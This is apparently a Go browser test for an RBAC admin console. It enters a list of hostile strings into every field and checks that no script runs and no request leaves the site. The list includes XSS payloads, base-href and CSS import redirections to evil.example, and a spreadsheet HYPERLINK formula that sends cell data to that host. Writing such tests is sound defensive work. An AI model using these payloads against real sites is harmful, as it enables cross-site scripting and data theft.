package e2e

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/rbac-go/rbac"
	"github.com/rbac-go/rbac/console"
)

// hostileTexts are texts that somebody enters in the hope that a page takes them
// for something else. Scripts among them would set hacked.
var hostileTexts = []string{
	`<script>hacked=1</script>`,
	`"><img src=//evil.example/a.png onerror=hacked=1>`,
	`' autofocus onfocus=hacked=1 x='`,
	`</textarea></select></title></table><svg onload=hacked=1>`,
	`<style>@import "//evil.example/b.css"</style><base href=//evil.example/>`,
	`javascript:hacked=1//`,
	`//evil.example/c`,
	`{{.Me}}{{hacked}}${hacked=1}<%=1%>`,
	`=HYPERLINK("http://evil.example/?"&A1)`,
	`&lt;b&gt;&#x3c;i&#x3e;&amp;`,
	`a&b=c?d#e/f%2e%00;..\g`,
	`NUL\0\x00` + "\ufffd" + `\u0000`,
	"abc\u202etxt.exe\u202c",           // reads backwards
	"\u200fעברית שלום\u200f",           // from right to left
	"Z" + strings.Repeat("\u0301", 40), // forty accents
	strings.Repeat("Wide", 40),         // a word wider than any screen
	strings.Repeat("多字", 60),           // without spaces
	strings.Repeat("a-long.name_", 16), // breaks nowhere, or everywhere
	"line one\nline two\ttab",          // of notes
	strings.Repeat("many short words ", 14) + "x",
}

// hostileSite is a console where every field has every hostile text that package
// rbac accepts there. The pages come without their Content-Security-Policy: what
// a browser could run, runs.
type hostileSite struct {
	*consoleSite
	accepted map[string]int // texts by field
	pages    []string
	shows    map[string][]string // what a page must show
}

func startHostile(t *testing.T) *hostileSite {
	t.Helper()
	catalogue := rbac.Catalogue{Permissions: []rbac.Permission{{Name: "declared.only", Title: hostileTexts[0], Description: hostileTexts[1]}}}
	site := startConsole(t, console.Config{Name: hostileTexts[1], Catalogue: &catalogue}, func(h http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { h.ServeHTTP(withoutPolicy{w}, r) })
	})
	s := &hostileSite{consoleSite: site, accepted: map[string]int{}, shows: map[string][]string{}}
	s.fill(t.Context())
	return s
}

// withoutPolicy sends no Content-Security-Policy.
type withoutPolicy struct{ http.ResponseWriter }

func (w withoutPolicy) WriteHeader(status int) {
	w.Header().Del("Content-Security-Policy")
	w.ResponseWriter.WriteHeader(status)
}

func (w withoutPolicy) Write(p []byte) (int, error) {
	w.Header().Del("Content-Security-Policy")
	return w.ResponseWriter.Write(p)
}

// refused makes a change beside the console, and reports whether package rbac
// refuses the text. Any other error fails the test.
func (s *hostileSite) refused(ctx context.Context, field string, change func(tx *rbac.Tx) error) bool {
	s.t.Helper()
	err := s.auth.Update(ctx, change)
	if err != nil && !errors.Is(err, rbac.ErrInvalid) {
		s.t.Fatalf("%s: %v", field, err)
	}
	if err == nil {
		s.accepted[field]++
	}
	return err != nil
}

// fill adds records with each text in each of their fields.
func (s *hostileSite) fill(ctx context.Context) {
	s.t.Helper()
	s.pages = []string{"", "users", "new-user", "groups", "permissions", "matrix", "separation", "scopes", "sessions", "changes", "view-as", "why", "declared", "settings"}
	for i, text := range hostileTexts {
		s.records(rbac.WithReason(rbac.WithActor(ctx, plain(text)), plain(text)), i, text)
	}
	for field, least := range map[string]int{
		"user": 9, "display name": 15, "user note": 18, "group": 15, "group display name": 15, "group note": 18, "permission": 15, "permission title": 15,
		"permission description": 18, "section": 15, "section title": 15, "scope": 15, "membership note": 18, "grant note": 18, "set": 15, "delegation note": 18, "label": 15,
	} {
		if s.accepted[field] < least {
			s.t.Errorf("only %d texts are accepted as %s, want %d", s.accepted[field], field, least)
		}
	}
}

// plain returns a text without what names may not have.
func plain(text string) string {
	return strings.TrimSpace(strings.NewReplacer("\n", " ", "\t", " ", "\u202e", "", "\u202c", "", "\u200f", "").Replace(text))
}

// records adds the records of one text. A name that is refused is replaced by a
// plain one, so that the other fields are tried anyway.
func (s *hostileSite) records(ctx context.Context, i int, text string) {
	s.t.Helper()
	user, group, permission, section, scope, set := text, text, text, text, text, "set "+text
	for _, f := range []struct {
		field  string
		name   *string
		change func(tx *rbac.Tx, name string) error
	}{
		{"user", &user, func(tx *rbac.Tx, name string) error { _, err := tx.AddUser(rbac.User{Name: name}); return err }},
		{"group", &group, func(tx *rbac.Tx, name string) error { _, err := tx.AddGroup(rbac.Group{Name: name}); return err }},
		{"section", &section, func(tx *rbac.Tx, name string) error { return tx.AddSection(rbac.Section{Name: name}) }},
		{"permission", &permission, func(tx *rbac.Tx, name string) error {
			_, err := tx.AddPermission(rbac.Permission{Name: name})
			return err
		}},
		{"scope", &scope, func(tx *rbac.Tx, name string) error {
			return tx.AssignUser(rbac.Membership{User: user, Group: group, Scope: name, Until: time.Now().AddDate(0, 0, 3)})
		}},
		{"set", &set, func(tx *rbac.Tx, name string) error {
			return tx.CreateSSDSet(rbac.SeparationSet{Name: name, Groups: []string{group, "admins"}, Cardinality: 2})
		}},
	} {
		if s.refused(ctx, f.field, func(tx *rbac.Tx) error { return f.change(tx, *f.name) }) {
			*f.name = fmt.Sprintf("%s-%d", f.field, i)
			must(s.t, s.auth.Update(ctx, func(tx *rbac.Tx) error { return f.change(tx, *f.name) }))
		}
	}
	user = canonical(s.t, s.auth, user)
	for field, change := range map[string]func(tx *rbac.Tx) error{
		"display name":           s.modifyUser(user, func(u *rbac.User) { u.DisplayName = text }),
		"user note":              s.modifyUser(user, func(u *rbac.User) { u.Note = text }),
		"group display name":     s.modifyGroup(group, func(g *rbac.Group) { g.DisplayName = text }),
		"group note":             s.modifyGroup(group, func(g *rbac.Group) { g.Note = text }),
		"permission title":       s.modifyPermission(permission, func(p *rbac.Permission) { p.Title, p.Section = text, section }),
		"permission description": s.modifyPermission(permission, func(p *rbac.Permission) { p.Description = text }),
		"section title": func(tx *rbac.Tx) error {
			sections, err := tx.Sections()
			for _, found := range sections {
				if found.Name == section {
					found.Title = text
					return tx.ModifySection(found)
				}
			}
			return err
		},
		"membership note": func(tx *rbac.Tx) error {
			return tx.AssignUser(rbac.Membership{User: user, Group: group, Note: text, Source: "source"})
		},
		"grant note": func(tx *rbac.Tx) error {
			return tx.GrantPermission(rbac.Grant{Group: group, Permission: permission, Note: text})
		},
		"delegation note": func(tx *rbac.Tx) error {
			return tx.AddDelegation(rbac.Delegation{Group: group, Assign: []string{group}, Note: text})
		},
	} {
		s.refused(ctx, field, change)
	}
	if _, err := s.auth.Issue(ctx, rbac.Login{User: user, UserAgent: text, Addr: netip.MustParseAddr("192.0.2.1"), Label: text, Expires: time.Now().AddDate(0, 0, 30)}); err == nil {
		s.accepted["label"]++
	} else {
		_, err := s.auth.Issue(ctx, rbac.Login{User: user, UserAgent: plain(text)})
		must(s.t, err)
	}
	q := url.QueryEscape
	for page, name := range map[string]string{"user": user, "group": group, "permission": permission} {
		page += "?name=" + q(name)
		s.pages, s.shows[page] = append(s.pages, page), append(s.shows[page], name)
	}
	for _, page := range []string{"users", "groups", "permissions", "scopes", "separation"} {
		name := map[string]string{"users": user, "groups": group, "permissions": permission, "scopes": scope, "separation": set}[page]
		s.shows[page] = append(s.shows[page], name)
	}
	why := "why?user=" + q(user) + "&ask=" + q(permission) + "&scope=" + q(scope)
	view := "view-as?user=" + q(user) + "&scope=" + q(scope)
	users := "users?q=" + q(plain(text)) + "&scope=" + q(scope)
	s.pages = append(s.pages, why, view, users)
	if i < 6 { // the filters and faults of the other pages
		s.pages = append(s.pages, "changes?actor="+q(plain(text)), "sessions?q="+q(text), "why?user="+q(text)+"&ask="+q(text+"("), "users?group="+q(text))
	}
	s.shows[why] = append(s.shows[why], permission)
}

func (s *hostileSite) modifyUser(name string, f func(*rbac.User)) func(tx *rbac.Tx) error {
	return func(tx *rbac.Tx) error {
		u, err := tx.User(name)
		f(&u)
		return errors.Join(err, tx.ModifyUser(u))
	}
}

func (s *hostileSite) modifyGroup(name string, f func(*rbac.Group)) func(tx *rbac.Tx) error {
	return func(tx *rbac.Tx) error {
		g, err := tx.Group(name)
		f(&g)
		return errors.Join(err, tx.ModifyGroup(g))
	}
}

func (s *hostileSite) modifyPermission(name string, f func(*rbac.Permission)) func(tx *rbac.Tx) error {
	return func(tx *rbac.Tx) error {
		p, err := tx.Permission(name)
		f(&p)
		return errors.Join(err, tx.ModifyPermission(p))
	}
}

// canonical returns the name that a user got.
func canonical(t *testing.T, a *rbac.Authority, name string) (got string) {
	t.Helper()
	must(t, a.View(t.Context(), func(tx *rbac.Tx) error {
		u, err := tx.User(name)
		got = u.Name
		return err
	}))
	return got
}

// requests collects the addresses that a tab loads.
type requests struct {
	mu   sync.Mutex
	urls []string
}

func (r *requests) listen(t *testing.T, u *user) {
	t.Helper()
	must(t, chromedp.Listen(u.ctx, func(event any) {
		if e, ok := event.(*network.EventRequestWillBeSent); ok {
			r.mu.Lock()
			defer r.mu.Unlock()
			r.urls = append(r.urls, e.Request.URL)
		}
	}))
}

// away returns the addresses outside of a site.
func (r *requests) away(site string) (list []string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, address := range r.urls {
		if !strings.HasPrefix(address, site+"/") && !strings.HasPrefix(address, "data:") { // of Chromium's own fields
			list = append(list, address)
		}
	}
	return list
}

var spaces = regexp.MustCompile(`\s+`)

// Hostile texts in every field stay texts on every page: no script runs, no
// request leaves, and no page is wider than the screen. The pages come without
// their policy, which would stop what a page lets through.
func TestConsoleHostileTexts(t *testing.T) {
	s := startHostile(t)
	u := s.manager()
	var sent requests
	sent.listen(t, u)
	shown := chromedp.Evaluate[string](`document.body.innerText + "\n" + [...document.querySelectorAll("input, textarea")].map(f => f.value).join("\n")`)
	hacked := chromedp.Evaluate[bool](`typeof hacked !== "undefined" || document.querySelector("main img, main script, main style, base, [onerror], [onload], [onfocus]") !== null`)
	check := func(page string, shows ...string) {
		t.Helper()
		if u.status >= 500 || u.status == 0 {
			t.Errorf("%q: %d", page, u.status)
		}
		if do(u, "look for scripts", hacked) {
			t.Errorf("%q: a text became a part of the page", page)
		}
		text := spaces.ReplaceAllString(do(u, "read the page", shown), " ")
		for _, want := range shows {
			if !strings.Contains(text, strings.TrimSpace(spaces.ReplaceAllString(want, " "))) {
				t.Errorf("%q does not show %q:\n%.2000s", page, want, text)
			}
		}
		for _, width := range []int64{1280, 320} {
			do(u, "be another screen", chromedp.EmulateViewport(width, 800))
			if wide := do(u, "measure", chromedp.Evaluate[int64](`document.documentElement.scrollWidth`)); wide > width {
				t.Errorf("%q is %d pixels wide on a screen of %d: %s", page, wide, width, do(u, "look for the widest", widest))
			}
		}
		do(u, "be as before", chromedp.ResetViewport())
	}
	for _, page := range s.pages {
		u.open("/admin/" + page)
		check(page, s.shows[page]...)
	}
	for _, text := range []string{hostileTexts[0], hostileTexts[1], hostileTexts[2], strings.Repeat("wide", 40)} {
		u.open("/admin/user?name=" + url.QueryEscape(text))
		u.fill("Display name", "x"+text)
		u.click("Save")
		check("the message about "+text, "changed the account of "+text)
		u.click("Delete…")
		check("the preview of "+text, "the user "+text+" will be deleted", "Type "+text+" to confirm")
		u.fill("Reason", text)
		u.fill("Type "+text+" to confirm", "x"+text)
		u.click("Apply")
		check("the refusal about "+text, "The name that you typed does not match.", text)
		u.open("/admin/settings")
		u.fill("Time zone", text)
		u.click("Save")
		check("the settings with "+text, "There is no time zone "+text)
	}
	for _, address := range sent.away(s.url) {
		t.Errorf("a request for %s", address)
	}
}

// widest returns the first elements that reach beyond the window.
var widest = chromedp.Evaluate[string](`[...document.querySelectorAll("body *")].filter(e => e.getBoundingClientRect().right > innerWidth + 1 && !e.closest(".table"))
	.slice(0, 4).map(e => e.tagName + "." + e.className + " " + e.textContent.slice(0, 30)).join("; ")`)
